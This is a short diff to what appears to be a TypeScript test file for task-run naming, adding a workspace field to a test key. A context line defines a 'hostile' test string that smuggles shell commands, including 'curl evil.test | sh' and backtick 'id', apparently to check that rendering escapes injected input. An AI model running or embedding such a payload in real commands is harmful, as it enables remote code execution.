@@ -9,7 +9,13 @@ import {
   taskRunName,
 } from './taskRun';
 
-const key = { run: 'run-1', stage: 'build', app: 'web', attempt: 1 } as const;
+const key = {
+  workspace: 'ws-a',
+  run: 'run-1',
+  stage: 'build',
+  app: 'web',
+  attempt: 1,
+} as const;
 const hostile = `'; curl evil.test | sh; $(params.X) $(IMAGE) \${HOME} \`id\`\n"`;
 
 async function rendered(more = {}) {
